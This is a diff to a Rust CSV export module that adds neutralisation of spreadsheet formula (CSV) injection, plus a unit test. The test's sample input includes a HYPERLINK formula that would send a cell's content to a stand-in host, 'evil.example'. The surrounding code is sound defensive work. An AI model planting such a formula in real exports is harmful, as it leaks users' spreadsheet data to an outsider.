@@ -90,9 +90,20 @@ impl CsvStyle {
     }
 }
 
+/// Text a spreadsheet would read as a formula (OWASP, CSV injection) gets a leading `'`, which
+/// spreadsheets show as text. Only text cells: figures are `Cell` numbers, so a negative number
+/// (`-10,00`) stays a number.
+fn inert(s: &str) -> String {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_string()
+    }
+}
+
 fn csv_cell(c: &Cell, n: NumberStyle) -> String {
     match c {
-        Cell::Text(s) => s.clone(),
+        Cell::Text(s) => inert(s),
         Cell::Int(i) => i.to_string(),
         Cell::Hours(m) => n.hours(*m),
         Cell::Percent(bp) => bp.map(|b| n.percent(b)).unwrap_or_default(),
@@ -112,7 +123,7 @@ pub fn csv(doc: &Document, style: CsvStyle) -> AppResult<Vec<u8>> {
             .flexible(true)
             .from_writer(&mut out);
         let io = |e: csv::Error| AppError::Internal(format!("csv: {e}"));
-        w.write_record([doc.title.as_str()]).map_err(io)?;
+        w.write_record([inert(&doc.title)]).map_err(io)?;
         for t in &doc.tables {
             w.write_record([""]).map_err(io)?;
             w.write_record([t.name]).map_err(io)?;
@@ -689,5 +700,65 @@ pub fn territory(r: &TerritoryReport) -> Document {
             contracts_table(&r.contracts),
             exits_table(&r.exits),
         ],
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn one_row(row: Vec<Cell>) -> Vec<String> {
+        let doc = Document {
+            title: "Essai".into(),
+            file_name: "essai".into(),
+            tables: vec![Table {
+                name: "T",
+                headers: vec!["a"; row.len()],
+                rows: vec![row],
+            }],
+        };
+        let bytes = csv(&doc, CsvStyle::default()).unwrap();
+        let mut r = csv::ReaderBuilder::new()
+            .delimiter(b';')
+            .flexible(true)
+            .has_headers(false)
+            .from_reader(&bytes[3..]);
+        let records: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+        records.last().unwrap().iter().map(String::from).collect()
+    }
+
+    #[test]
+    fn formula_text_is_neutralised_and_negative_numbers_stay_numbers() {
+        let cells = one_row(vec![
+            text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")"),
+            text("-1+2"),
+            text("+33 6"),
+            text("@SUM(A1)"),
+            text("\tx"),
+            text("\rx"),
+            text("Lot = 1"),
+            Cell::Hours(-600),
+            Cell::Euros(-1234),
+            Cell::Int(-3),
+        ]);
+        assert_eq!(
+            cells,
+            [
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")",
+                "'-1+2",
+                "'+33 6",
+                "'@SUM(A1)",
+                "'\tx",
+                "'\rx",
+                "Lot = 1",
+                "-10,00",
+                "-12,34",
+                "-3",
+            ]
+        );
+        // The figures read back as numbers (decimal comma).
+        for n in &cells[7..] {
+            assert!(n.replace(',', ".").parse::<f64>().unwrap() < 0.0, "{n}");
+        }
     }
 }
